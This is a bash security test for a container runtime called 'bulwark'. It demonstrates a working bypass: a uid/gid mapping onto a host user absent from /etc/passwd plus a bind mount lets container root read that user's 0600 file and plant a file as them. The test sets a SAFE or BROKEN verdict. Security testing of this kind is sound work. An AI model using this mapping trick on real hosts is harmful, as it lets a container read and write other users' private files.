#!/bin/bash
# shellcheck disable=SC2016 # jq filters use their own $variables
# Attack: explicit linux.uidMappings/gidMappings onto a host id that is not
# in /etc/passwd (an LDAP/sssd user, a rootless Podman user's subordinate
# ids, files of a runc container, NFS owners). BW043 only knows ids below
# 65536, /etc/passwd and /etc/group, live containers and bulwark's own
# subordinate range, so the mapping passes restricted; and with explicit
# mappings bind mounts are not seen from the volume range (only an
# automatic range gets the V idmap), so container root IS that host user
# on every bind: it reads their 0600 files in a 0700 directory and writes
# files owned by them.
# Here the host user is uid 1999999999 owning a 0700 fixture directory.
# Expected safe outcome: refused under restricted and baseline (BW043: the
#   mapping lands on ids that own host files / are not bulwark's), or the
#   binds are seen from the volume range, so the 0600 file is unreadable
#   and nothing is written as host uid 1999999999.
# Observed: `bulwark --profile restricted run` prints "secret" and leaves
#   /tmp/.../planted owned by 1999999999 on the host.
set -u
source "$(dirname "$0")/lib.sh"
setup_bundle
V=$(mktemp -d /tmp/bw-a3-victim.XXXXXX)
trap 'teardown_bundle; rm -rf "$V"' EXIT
echo secret >"$V/secret"; chmod 600 "$V/secret"; chmod 700 "$V"
chown -R 1999999999:1999999999 "$V"
config_edit --arg v "$V" '.linux.namespaces += [{"type":"user"}]
  | .linux.uidMappings=[{"containerID":0,"hostID":1999999999,"size":65536}]
  | .linux.gidMappings=[{"containerID":0,"hostID":1999999999,"size":65536}]
  | .mounts += [{"destination":"/tmp","type":"bind","source":$v,"options":["rbind","rw"]}]
  | .process.args=["sh","-c","cat /tmp/secret; echo pwned > /tmp/planted"]'
"$BULWARK" --root "$BW_ROOT" --profile restricted run --bundle "$BUNDLE" map1
if [[ -e $V/planted ]]; then
  verdict BROKEN "container root wrote $(stat -c '%u:%g' "$V/planted") on the host"
else
  verdict SAFE "nothing written as the host user"
fi
